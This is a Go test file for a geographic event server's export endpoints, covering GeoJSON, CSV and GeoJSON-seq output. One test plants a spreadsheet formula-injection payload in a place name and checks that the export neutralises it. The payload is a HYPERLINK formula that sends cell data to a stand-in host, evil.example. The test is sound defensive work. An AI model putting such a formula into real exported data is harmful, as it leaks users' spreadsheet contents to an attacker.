package web

import (
	"encoding/csv"
	"net/http"
	"sort"
	"strings"
	"testing"

	"geoevents/internal/event"
)

func TestExport(t *testing.T) {
	evs := genEvents(400, 11)
	s := newTestServer(t, Config{}, openStore(t, evs), nil)
	var battles []string
	for _, e := range evs {
		if e.Type == event.TypeBattles {
			battles = append(battles, e.ID)
		}
	}
	sort.Strings(battles)

	rec := do(t, s.Handler(), http.MethodGet, "/api/export.geojson?type=Battles", nil)
	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != mimeGeoJSON ||
		rec.Header().Get("Content-Disposition") != `attachment; filename="events.geojson"` {
		t.Fatalf("geojson export: %d %v", rec.Code, rec.Header())
	}
	var fc featureCollection
	decode(t, rec, &fc)
	got := fc.ids()
	sort.Strings(got)
	if strings.Join(got, ",") != strings.Join(battles, ",") {
		t.Errorf("export has %d features, want the %d battles", len(got), len(battles))
	}
	// No cap: more than the API's maximum page would still be one file;
	// here, everything without filters.
	rec = do(t, s.Handler(), http.MethodGet, "/api/export.geojson", nil)
	decode(t, rec, &fc)
	if n := countEvents(evs); len(fc.Features) != n {
		t.Errorf("full export: %d of %d events", len(fc.Features), n)
	}
	// Plain mentions only when asked for.
	rec = do(t, s.Handler(), http.MethodGet, "/api/export.geojson?mentions=true", nil)
	decode(t, rec, &fc)
	if len(fc.Features) != len(evs) {
		t.Errorf("full export with mentions: %d of %d", len(fc.Features), len(evs))
	}

	rec = do(t, s.Handler(), http.MethodGet, "/api/export.csv?type=Battles", nil)
	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") ||
		!strings.Contains(rec.Header().Get("Content-Disposition"), "events.csv") {
		t.Fatalf("csv export: %d %v", rec.Code, rec.Header())
	}
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil || len(rows) != len(battles)+1 {
		t.Fatalf("csv: %d rows (want %d + header), %v", len(rows), len(battles), err)
	}

	rec = do(t, s.Handler(), http.MethodGet, "/api/export.geojsons?country=LB", nil)
	n := 0
	for _, e := range evs {
		if e.CountryCode == "LB" && e.Type != event.TypeMention {
			n++
		}
	}
	if rec.Code != http.StatusOK || strings.Count(rec.Body.String(), "\x1e") != n {
		t.Errorf("geojsonseq: %d, %d records, want %d", rec.Code, strings.Count(rec.Body.String(), "\x1e"), n)
	}
	rec = do(t, s.Handler(), http.MethodHead, "/api/export.geojson", nil)
	if rec.Code != http.StatusOK || rec.Body.Len() != 0 || rec.Header().Get("Content-Disposition") == "" {
		t.Errorf("HEAD export: %d %d bytes", rec.Code, rec.Body.Len())
	}
	if rec := do(t, s.Handler(), http.MethodGet, "/api/export.geojson?bbox=1,2", nil); rec.Code != http.StatusBadRequest {
		t.Errorf("export with a bad bbox: %d", rec.Code)
	}
}

// TestExportCSVNeutralisesFormulas: the HTTP CSV download escapes text a
// spreadsheet would run as a formula, and keeps negative coordinates numeric.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	evs := genEvents(3, 12)
	evs[0].PlaceName, evs[0].Lon, evs[0].Lat = `=HYPERLINK("http://evil.example/?"&A1,"x")`, -179.5, -17.25
	s := newTestServer(t, Config{}, openStore(t, evs), nil)
	rec := do(t, s.Handler(), http.MethodGet, "/api/export.csv", nil)
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if rec.Code != http.StatusOK || err != nil || len(rows) != len(evs)+1 {
		t.Fatalf("csv export: %d, %d rows, %v", rec.Code, len(rows), err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	found := false
	for _, r := range rows[1:] {
		if r[col["id"]] != evs[0].ID {
			continue
		}
		found = true
		if r[col["place_name"]] != "'"+evs[0].PlaceName || r[col["lon"]] != "-179.5" || r[col["lat"]] != "-17.25" {
			t.Errorf("row = place_name %q lon %q lat %q", r[col["place_name"]], r[col["lon"]], r[col["lat"]])
		}
	}
	if !found {
		t.Errorf("event %s missing from the export", evs[0].ID)
	}
}
